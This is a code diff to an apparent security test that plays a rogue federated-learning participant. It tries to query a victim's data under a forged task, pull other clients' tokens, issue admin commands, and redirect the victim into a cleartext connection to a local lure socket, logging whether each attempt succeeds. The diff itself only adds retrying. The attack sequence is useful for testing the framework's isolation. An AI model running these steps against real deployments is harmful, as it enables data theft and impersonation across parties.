@@ -42,26 +42,29 @@ def attack(fl_ctx):
     def send(channel, topic, target, payload, headers=None):
         message = new_cell_message(headers or {}, payload)
         reply = cell.send_request(channel, topic, target, message, timeout=SECONDS)
-        return reply.get_header(MessageHeaderKey.RETURN_CODE), reply.payload
+        return reply.get_header(MessageHeaderKey.RETURN_CODE) == "ok"
 
-    def told(what, answered):
+    def insist(what, attack):
+        """Try until it succeeds or patience ends: the other party's part of the job may not run yet."""
+        end = time.monotonic() + float(os.environ["DKPCA_PATIENCE"])
+        while not (answered := attack()) and time.monotonic() < end:
+            time.sleep(0.2)
         with Path(os.environ["DKPCA_ATTACKS"]).open("a") as file:
             file.write(json.dumps({"what": what, "answered": answered}) + "\n")
 
-    time.sleep(2)  # until the others' part of the job runs
     question = Shareable()
     question["request"] = encode_request(Request("stolen", StatisticsWanted()))
     question.set_header(ReservedHeaderKey.TASK_NAME, "ask")
     question.set_header(ReservedHeaderKey.TASK_ID, "x")
     question.set_peer_props(fl_ctx.get_all_public_props())
-    told("ask the other party", send("aux_communication", "__do_task__", f"{VICTIM}.{job}", question)[0] == "ok")
+    insist("ask the other party", lambda: send("aux_communication", "__do_task__", f"{VICTIM}.{job}", question))
 
-    clients = send("server_parent_listener", "get_clients", "server", {}, {CellMessageHeaderKeys.JOB_ID: job})[0]
-    told("get the others' tokens", clients == "ok")
+    number = {CellMessageHeaderKeys.JOB_ID: job}
+    insist("get the others' tokens", lambda: send("server_parent_listener", "get_clients", "server", {}, number))
 
     command = Message("scheduler.check_resource", {})
     command.set_header("job_id", job)
-    told("command the other party", send("admin", "admin", VICTIM, command)[0] == "ok")
+    insist("command the other party", lambda: send("admin", "admin", VICTIM, command))
 
     changed[MessageHeaderKey.ORIGIN] = f"{VICTIM}.{job}"
     heartbeat = Shareable()
@@ -71,14 +74,18 @@ def attack(fl_ctx):
 
     with socket.create_server(("127.0.0.1", 0)) as lure:
         lure.settimeout(SECONDS)
-        changed[MessageHeaderKey.CONN_URL] = f"grpc://127.0.0.1:{lure.getsockname()[1]}"
-        send("aux_communication", "nothing", f"{VICTIM}.{job}", question)
-        changed.clear()
-        try:
-            lure.accept()[0].close()
-            told("have the other party connect to it in clear", True)
-        except TimeoutError:
-            told("have the other party connect to it in clear", False)
+
+        def somebody_connects():
+            changed[MessageHeaderKey.CONN_URL] = f"grpc://127.0.0.1:{lure.getsockname()[1]}"
+            send("aux_communication", "nothing", f"{VICTIM}.{job}", question)
+            changed.clear()
+            try:
+                lure.accept()[0].close()
+            except TimeoutError:
+                return False
+            return True
+
+        insist("have the other party connect to it in clear", somebody_connects)
 
 
 def wait_for_the_job():
